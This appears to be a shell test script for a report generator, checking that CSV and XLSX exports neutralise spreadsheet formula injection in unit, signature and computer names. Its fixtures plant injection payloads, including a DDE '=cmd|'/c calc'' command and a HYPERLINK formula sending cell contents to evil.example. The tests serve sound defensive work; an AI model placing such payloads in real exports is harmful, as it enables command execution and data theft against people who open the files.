#!/bin/sh
# Spreadsheet formulas in report text (CSV injection). Unit names and codes
# from the operator, signature names and computer names from sticks may
# begin with = + - @ (or tab, CR): in the CSV such a field gets a leading
# apostrophe, in the XLSX every text is an inline string and no cell is a
# formula; real numbers stay numbers. LibreOffice, if installed, reads the
# XLSX cells back as the very text.
. "$(dirname "$0")/../lib.sh"

I=$T/ioc
"$TOP/tests/fixtures/report-ioc.sh" "$I" || { echo "Bail out! cannot build the IOC database"; exit 1; }
HYP='=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
sqlite3 "$I/ioc.db" "
	UPDATE units SET name = '=1+2' WHERE code = '000.00.12.H57';
	UPDATE units SET name = '+SUM(1,2)' WHERE code = '000.00.14.H57';
	UPDATE units SET name = '-2+3' WHERE code = '000.01.20.H57';
	UPDATE units SET name = '@SUM(1,2)' WHERE code = '000.01.21.H57';
	INSERT INTO units VALUES ('=cmd|''/c calc''!A0', char(9) || '=1+1', NULL, 1, '2026-10-01');
	UPDATE detections SET signature = '$(printf '%s' "$HYP" | sed "s/'/''/g")' WHERE signature = 'Eicar-Signature';
	UPDATE scans SET computer = '-1+1' WHERE computer = 'KT-01';
	UPDATE scans SET computer = '@A1' WHERE computer = 'KT-02';" ||
	{ echo "Bail out! cannot plant the names"; exit 1; }
R() { raquet-report --ioc "$I" --date 2026-11-28 --from 2026-11-01 --to 2026-11-30 "$@"; }
ok "the CSV report is written" R -o "$T/r.csv"
ok "the XLSX report is written" R -o "$T/r.xlsx"
ok "the JSON report is written" R -o "$T/r.json"

# --- CSV: parsed as RFC 4180, every text field is inert.
ok "the CSV parses" sqlite3 "$T/csv.db" ".import --csv '$T/r.csv' r"
Q() { sqlite3 -separator '|' "$T/csv.db" "$1"; }
is "no text field starts with = + - @ tab or CR" \
	"$(Q "SELECT count(*) FROM r, (SELECT unit AS v FROM r UNION ALL SELECT unit_name FROM r
		UNION ALL SELECT label FROM r UNION ALL SELECT note FROM r) AS t
		WHERE substr(t.v, 1, 1) IN ('=', '+', '-', '@', char(9), char(13)) LIMIT 1")" 0
is "  ... a formula-like unit name keeps its text after an apostrophe" \
	"$(Q "SELECT DISTINCT unit_name FROM r WHERE unit = '000.00.12.H57'")" "'=1+2"
is "  ... + - @ too" "$(Q "SELECT group_concat(DISTINCT unit_name) FROM r WHERE unit IN ('000.00.14.H57', '000.01.20.H57', '000.01.21.H57')")" \
	"'+SUM(1,2),'-2+3,'@SUM(1,2)"
is "  ... a unit code and a name with a leading tab" \
	"$(Q "SELECT DISTINCT unit || '|' || hex(unit_name) FROM r WHERE unit LIKE '''=cmd%'")" \
	"'=cmd|'/c calc'!A0|$(printf "'\t=1+1" | od -An -tx1 | tr -d ' \n' | tr a-f A-F)"
is "  ... the signature named in the note of row 8" \
	"$(Q "SELECT note FROM r WHERE unit = '' AND stt = '8'")" "'$HYP: 3 máy; Win.Test.ClamExe: 2 máy"
is "a harmless name passes unchanged" "$(Q "SELECT DISTINCT unit_name FROM r WHERE unit = '000.00.13.H57'")" \
	"Sở Tài chính & Kế hoạch <\"Đầu tư\"> 'Huế'"
is "numbers stay bare numbers, equal to the JSON" \
	"$(Q "SELECT group_concat(value, ',') FROM r WHERE unit = ''")" \
	"$(jq -r '[.rows[].value] | join(",")' "$T/r.json")"
ok "  ... written unquoted (a spreadsheet reads them as numbers)" grep -q '^,[^,]*,3,Tổng số máy tính được rà quét,8,' "$T/r.csv"

# --- XLSX: text is inline strings, there is no formula anywhere.
mkdir -p "$T/x" && (cd "$T/x" && unzip -q "$T/r.xlsx") || echo "not ok - cannot unzip the XLSX"
ok "no cell of any sheet is a formula" sh -c "! grep -l '<f[ >]' '$T'/x/xl/worksheets/*.xml"
ok "no shared formula or external link part" sh -c "! ls '$T/x/xl' | grep -qi -e calcChain -e externalLink"
# Every cell that holds one of the planted texts is an inline string.
for v in '=1+2' '+SUM(1,2)' '-2+3' '@SUM(1,2)' '-1+1' '@A1' '=HYPERLINK('; do
	ok "  ... \"$v\" is an inline string" sh -c "grep -h -o '<c[^>]*><is><t[^>]*>[^<]*' '$T'/x/xl/worksheets/*.xml |
		grep -F -- '>$v' > '$T/cells' && test -s '$T/cells' && ! grep -v 't=\"inlineStr\"' '$T/cells'"
done
ok "  ... numbers are numeric cells" sh -c "grep -q '<c[^>]*><v>8</v></c>' '$T/x/xl/worksheets/sheet1.xml'"

# --- LibreOffice reads the cells back as their text, not their value.
if command -v soffice >/dev/null; then
	ok "LibreOffice converts the XLSX to CSV" timeout 600 soffice --headless \
		-env:UserInstallation="file://$T/lo-profile" \
		--convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1' \
		--outdir "$T/lo" "$T/r.xlsx"
	ok "  ... the unit names are text, not computed" sh -c "grep -qF '=1+2' '$T/lo/r-Đơn vị.csv' &&
		grep -qF -- '-2+3' '$T/lo/r-Đơn vị.csv' && grep -qF '@SUM(1,2)' '$T/lo/r-Đơn vị.csv'"
	ok "  ... the signature is text" grep -qF 'HYPERLINK(' "$T/lo/r-Mã độc.csv"
	ok "  ... the computer names are text" sh -c "grep -qF -- '-1+1' '$T/lo/r-Thiết bị.csv' && grep -qF '@A1' '$T/lo/r-Thiết bị.csv'"
else
	echo "# LibreOffice missing: its reading of the XLSX is not checked"
fi

done_testing
